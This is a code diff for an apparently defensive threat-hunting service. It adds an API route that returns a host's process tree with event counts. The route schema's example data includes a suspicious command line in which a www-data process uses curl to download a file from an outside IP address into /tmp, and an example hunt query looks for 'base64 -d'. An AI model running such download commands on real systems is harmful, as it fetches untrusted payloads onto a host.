@@ -7,17 +7,40 @@ import { sigmaLevels, type SigmaLevel } from '@vigil/detect';
 import { huntFields } from '@vigil/hunt';
 import type { ControlPlane } from '../control-plane/sqlite.js';
 import type { HuntService, SavedHunt } from '../hunt/hunt-service.js';
+import { processTree } from '../hunt/process-tree.js';
+import type { EventStore } from '@vigil/store';
 
 export interface HuntRouteDeps {
   controlPlane: ControlPlane;
   hunts: HuntService;
+  store: EventStore;
 }
+
+const exampleTime = '2026-12-04T10:15:00.000Z';
+
+const processNodeSchema = {
+  type: 'object',
+  required: ['entityId', 'parentEntityId', 'pid', 'ppid', 'executable', 'commandLine', 'user', 'start', 'end', 'exitCode', 'activity'],
+  properties: {
+    entityId: { type: 'string' },
+    parentEntityId: { type: ['string', 'null'] },
+    pid: { type: ['integer', 'null'] },
+    ppid: { type: ['integer', 'null'] },
+    executable: { type: ['string', 'null'] },
+    commandLine: { type: ['string', 'null'] },
+    user: { type: ['string', 'null'] },
+    start: { type: ['string', 'null'] },
+    end: { type: ['string', 'null'] },
+    exitCode: { type: ['integer', 'null'] },
+    activity: { type: 'object', additionalProperties: { type: 'integer' }, description: 'category/action → events this process produced' },
+  },
+};
+const exampleNode = { entityId: 'Q2m0Yx1nT4u8Zk3pR7sWaA', parentEntityId: 'b8Hc2Lq9Vd1Xw3Ke5NfUzg', pid: 4242, ppid: 4100, executable: '/usr/bin/curl', commandLine: 'curl -o /tmp/x http://203.0.113.7/x', user: 'www-data', start: exampleTime, end: null, exitCode: null, activity: { 'network/connect': 1, 'file/create': 1 } };
 
 const isoDate = { type: 'string', format: 'date-time' };
 const query = { type: 'string', minLength: 1, maxLength: 65536 };
 const idParams = { type: 'object', required: ['id'], properties: { id: { type: 'string', minLength: 1, maxLength: 100 } } };
 const exampleQuery = 'process where process.command_line contains "base64 -d" | stats count() by host.id';
-const exampleTime = '2026-12-04T10:15:00.000Z';
 
 const savedHuntSchema = {
   type: 'object',
@@ -82,7 +105,39 @@ interface SavedBody {
 }
 
 export function registerHuntRoutes(app: FastifyInstance, deps: HuntRouteDeps): void {
-  const { controlPlane, hunts } = deps;
+  const { controlPlane, hunts, store } = deps;
+
+  app.get(
+    '/api/v1/hosts/:id/process-tree',
+    {
+      config: { permission: 'events:read' },
+      schema: {
+        tags: ['hunt'],
+        summary: 'Process tree around a process',
+        description:
+          'The process with this entity id on the host, its ancestors (nearest first) and its descendants (breadth first, at most 10 levels and 2,000 processes), each with what it did: counts of its file, network, DNS and other events by category and action.',
+        params: { type: 'object', required: ['id'], properties: { id: { type: 'string', minLength: 1, maxLength: 200 } } },
+        querystring: { type: 'object', required: ['entity_id'], additionalProperties: false, properties: { entity_id: { type: 'string', minLength: 1, maxLength: 200 } } },
+        response: {
+          200: {
+            description: 'The tree',
+            type: 'object',
+            required: ['hostId', 'rootEntityId', 'ancestors', 'nodes', 'edges', 'truncated'],
+            properties: {
+              hostId: { type: 'string' },
+              rootEntityId: { type: 'string' },
+              ancestors: { type: 'array', items: processNodeSchema },
+              nodes: { type: 'array', items: processNodeSchema },
+              edges: { type: 'array', items: { type: 'object', required: ['parent', 'child'], properties: { parent: { type: 'string' }, child: { type: 'string' } } } },
+              truncated: { type: 'boolean' },
+            },
+            examples: [{ hostId: 'a1b2', rootEntityId: exampleNode.entityId, ancestors: [], nodes: [exampleNode], edges: [], truncated: false }],
+          },
+        },
+      },
+    },
+    async (request) => processTree(store, (request.params as { id: string }).id, (request.query as { entity_id: string }).entity_id),
+  );
   const actor = (request: { principal?: { name: string } }) => request.principal?.name ?? 'unknown';
 
   app.post(
